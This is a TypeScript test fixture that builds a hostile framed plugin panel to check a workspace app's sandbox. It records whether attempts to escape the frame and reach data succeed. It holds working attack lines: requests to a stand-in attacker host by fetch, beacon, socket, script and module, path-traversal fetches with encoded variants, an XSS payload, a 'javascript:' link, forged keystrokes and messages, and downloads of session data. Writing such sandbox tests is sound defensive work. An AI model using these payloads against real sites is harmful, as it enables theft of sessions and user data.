/** A panel that tries everything a framed panel must not be able to do, and writes down what it got. Each attempt resolves to what it reached, or rejects. */
export const hostilePanel = (evil: string): string => `
const evil = ${JSON.stringify(evil)};
const context = () => panel.context;
let panel;
const attempts = {
  'the document around it': () => parent.document.title,
  'the document at the top': () => top.document.title,
  'its own frame element': () => frameElement.outerHTML,
  'cookies': () => document.cookie || Promise.reject(new Error('empty')),
  'setting a cookie': () => { document.cookie = 'stolen=1'; return document.cookie || Promise.reject(new Error('empty')); },
  'local storage': () => localStorage.length,
  'session storage': () => sessionStorage.length,
  'databases': () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = reject; }),
  'caches': () => caches.keys(),
  'service workers': () => navigator.serviceWorker.register('/assets/x.js'),
  'a worker': () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject; }),
  'the session by fetch': () => fetch('/api/session'),
  'another host by fetch': () => fetch(evil + '/fetch'),
  'another host without waiting': () => fetch(evil + '/no-cors', { mode: 'no-cors' }),
  'an old request': () => new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.open('GET', evil + '/xhr'); ask.onload = resolve; ask.onerror = reject; ask.send(); }),
  'a beacon': () => { navigator.sendBeacon(evil + '/beacon'); return Promise.reject(new Error('looked at from outside')); },
  'a socket': () => new Promise((resolve, reject) => { const socket = new WebSocket(evil.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; }),
  'events': () => new Promise((resolve, reject) => { const source = new EventSource(evil + '/events'); source.onopen = resolve; source.onerror = reject; }),
  'a picture': () => new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = evil + '/picture.png'; }),
  'a style sheet': () => new Promise((resolve, reject) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = evil + '/style.css'; link.onload = resolve; link.onerror = reject; document.head.append(link); }),
  'a font': () => new FontFace('evil', 'url(' + evil + '/font.woff2)').load(),
  'a script': () => new Promise((resolve, reject) => { const script = document.createElement('script'); script.src = evil + '/script.js'; script.onload = resolve; script.onerror = reject; document.head.append(script); }),
  'a module': () => import(evil + '/module.js'),
  'eval': () => (0, eval)('1 + 1'),
  'a frame of its own': () => new Promise((resolve, reject) => { const frame = document.createElement('iframe'); frame.onload = () => { try { resolve(frame.contentWindow.document.title); } catch (error) { reject(error); } }; frame.src = evil + '/frame'; document.body.append(frame); }),
  'connections between browsers': () => new RTCPeerConnection(),
  'connections between browsers from an empty frame': () => { const frame = document.createElement('iframe'); document.body.append(frame); return new frame.contentWindow.RTCPeerConnection(); },
  'a window': () => window.open(evil + '/window') || Promise.reject(new Error('refused')),
  'the top window': () => { top.location.href = evil + '/top'; return Promise.reject(new Error('looked at from outside')); },
  'the page around it': () => { parent.location = evil + '/parent'; return Promise.reject(new Error('looked at from outside')); },
  'a form': () => { const form = document.createElement('form'); form.action = evil + '/form'; form.method = 'post'; form.target = '_top'; document.body.append(form); form.submit(); return Promise.reject(new Error('looked at from outside')); },
  'a form to the server': () => { const form = document.createElement('form'); form.action = '/api/session/sign-out'; form.method = 'post'; document.body.append(form); form.submit(); return Promise.reject(new Error('looked at from outside')); },
  'history': () => { history.pushState({}, '', '/w/elsewhere'); return Promise.reject(new Error('looked at from outside')); },
  'going back': () => { history.go(-1); return Promise.reject(new Error('looked at from outside')); },
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'the clipboard': () => navigator.clipboard.readText(),
  'where the person is': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'the full screen': () => document.documentElement.requestFullscreen(),
  'a question to the person': () => confirm('Your password?') || Promise.reject(new Error('refused')),
  'routes of another tool': () => context().fetch('/../common-agenda/agenda.json'),
  'routes of another tool, written differently': () => context().fetch('/%2e%2e/common-agenda/agenda.json'),
  'routes of another tool, with a hidden slash': () => context().fetch('/..%2fcommon-agenda/agenda.json'),
  'routes of the workspace': () => context().fetch('/../../members'),
  'routes of the server': () => context().fetch('/../../../../session'),
  'another host through the page': () => context().fetch('//' + new URL(evil).host + '/through'),
  'a document of another tool': () => context().openDocument('agenda').whenSynced,
  'a document of another tool, by a path': () => context().openDocument('../common-agenda/agenda').whenSynced,
};
export default class extends HTMLElement {
  connectedCallback() {
    panel = this;
    this.innerHTML = '<p id="done"></p><button id="pressed">Press</button>';
    this.querySelector('#pressed').onclick = () => this.afterPress();
    void this.try();
  }
  async try() {
    const got = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing came')), 1500));
      try { got[name] = 'REACHED ' + String(await Promise.race([Promise.resolve().then(attempt), late])); }
      catch (error) { got[name] = 'no: ' + error.message; }
    }
    this.dataset.got = JSON.stringify(got);
    this.forge();
    this.querySelector('#done').textContent = 'done';
  }
  /** What a panel could say without our scripts: it has the same window to knock with, and may pretend that keys were pressed. */
  forge() {
    parent.postMessage('tutti-frame', '*');
    parent.postMessage({ type: 'start' }, '*', [new MessageChannel().port1]);
    const link = (href, download) => { const one = document.createElement('a'); one.href = href; if (download !== undefined) one.download = download; one.click(); };
    link('/w/tidewell-thrives/settings/people');
    link(context().url('/anything'), 'x');
    context().setAddress('../../settings/people');
    window.dispatchEvent(new KeyboardEvent('keydown', { key: 'k', ctrlKey: true }));
    window.dispatchEvent(new KeyboardEvent('keydown', { key: 'o', ctrlKey: true, altKey: true }));
    window.print();
    context().notify({ text: '<img src=x onerror=alert(1)>' });
  }
  /** Somebody pressed something here: also then it may not use another tool's keys, nor open what is not its own. */
  afterPress() {
    const link = (href, download) => { const one = document.createElement('a'); one.href = href; if (download !== undefined) one.download = download; one.click(); };
    window.dispatchEvent(new KeyboardEvent('keydown', { key: 'o', ctrlKey: true, altKey: true }));
    link('/api/workspaces/tidewell-thrives/plugins/common-agenda/agenda.json', 'stolen.json');
    link('/api/session', 'session.json');
    link(evil + '/link');
    link('javascript:parent.stolen=1');
    link('/sign-in');
    this.querySelector('#done').textContent = 'pressed';
  }
}`;
